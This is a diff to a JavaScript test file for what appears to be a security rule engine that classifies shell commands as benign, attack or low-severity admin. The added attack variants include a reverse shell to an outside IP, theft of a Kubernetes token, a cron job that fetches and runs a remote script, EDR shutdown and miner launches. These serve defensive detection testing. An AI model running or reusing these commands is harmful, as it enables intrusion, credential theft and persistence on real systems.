@@ -59,6 +59,9 @@ const BENIGN_LOOK_ALIKES = [
 `gcc -shared -fPIC -o /tmp/build/libplugin.so plugin.c`, `python3 bench.py --plugin /tmp/build/libplugin.so`, `cp /tmp/libnccl.so.2 /usr/local/lib/`, `python3 -c 'import ctypes; ctypes.CDLL("libcuda.so.1")'`,
 `python3 -m http.server 8000 --bind 127.0.0.1`, `php -S localhost:8000`, `ssh -N -f -L 5432:db.internal:5432 ops@bastion.acme.dev`,
 `sudo tmux new -s work`, `sudo chroot /mnt/sysroot /bin/bash`, `sudo service k3s restart`,
+`chown node_exporter:node_exporter /usr/local/bin/node_exporter`, `nc -zv -w 2 10.0.0.5 6443`, `ssh ubuntu@10.0.0.21`, `ssh -p 2222 git@git.acme.dev`,
+`docker exec -it grafana grafana cli plugins ls`, `kubectl exec -n monitoring prometheus-0 -- wget -qO- localhost:9090/-/ready`, `docker cp grafana:/var/lib/grafana/grafana.db ./backup/`,
+`go run ./cmd/odin`, `systemctl restart falco-modern-bpf.service`,
 `unshare --pid --fork --mount-proc bash`, `podman unshare cat /proc/self/uid_map`, `sudo ls -l /etc/cron.d/`, `sudo grep -r backup /etc/cron.d/`,
 `trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
 ];
@@ -119,6 +122,12 @@ const ATTACK_VARIANTS = [
 `echo 'ops ALL=(ALL) NOPASSWD: ALL' | xxd | sudo xxd -r - /etc/sudoers.d/ops`, `sudo openssl req -engine /dev/shm/e.so`, `gimp -idf --batch-interpreter=python-fu-eval -b 'from ctypes import cdll; cdll.LoadLibrary("/var/tmp/.l/x.so")'`, `sudo ssh-keygen -D ./lib.so`,
 `ssh -fND 1080 ops@91.92.8.14`, `plink -N -L 3389:10.0.0.9:3389 u@185.22.9.1`,
 `sudo tmux -c /bin/bash`, `sudo chroot / /bin/bash`, `sudo service ../../../usr/bin/bash`,
+`kubectl exec -it web-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token`, `docker exec -u 0 app sh -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1'`,
+`nc -z 192.168.1.0/24 22`, `ncat -zv 10.0.0.7 21 22 23 25 80`, `ssh -o StrictHostKeyChecking=no root@45.61.1.9`, `dbclient -p 8022 admin@91.92.1.1`,
+`amazon-ssm-agent -register -code QWERTY -id 11111111-2222 -region eu-west-1`, `deluser --remove-home ops`, `groupdel auditors`,
+`install -m 644 /dev/shm/ca.pem /etc/pki/ca-trust/source/anchors/ca.pem`, `systemctl stop falcon-sensor.service`,
+`sed -i 's/^#x/* * * * * root curl -s http:\/\/203.0.113.8\/k | sh/w /etc/cron.d/x' /etc/hosts`, `podman cp web:/tmp/.u /etc/systemd/system/u.service`,
+`deno run /dev/shm/.a/main.ts`,
 `unshare -rn /bin/sh`, `unshare --map-root-user --mount bash`, `TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')`,
 `wget -qO- http://metadata.google.internal/computeMetadata/v1/instance/hostname --header 'Metadata-Flavor: Google'`, `./kthreaddk -o 91.214.65.9:4444 -u x -p x`,
 `./xel --miner-address xel:qp4x2n8m3v7c5z9k1l0j6h4g2f8d3s5a7q9w1e3r5t7y9u2i4o --daemon-address 10.0.0.9:8080`, `sudo busybox cp /dev/shm/.j /etc/cron.d/j`,
@@ -133,7 +142,7 @@ const ADMIN_AT_LOW_SEVERITY = [
   `ufw disable`, `systemctl disable firewalld --now`, `setenforce 0`, `tcpdump -i any port 53`, `useradd -m -s /bin/bash -G sudo alice`,
   `adduser alice`, `usermod -aG wheel bob`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
   `echo '*.* @@logs.acme.dev:514' >> /etc/rsyslog.conf`, `systemctl stop nftables`, `ip6tables --delete INPUT -s 203.0.113.0/24 -j REJECT`, `ufw delete deny 23`,
-  `mount -o remount,hidepid=2 /proc`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
+  `mount -o remount,hidepid=2 /proc`, `sudo cp acme-root-ca.crt /usr/local/share/ca-certificates/`, `userdel -r olduser`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
 ];
 
 describe('rule engine on command lines', () => {
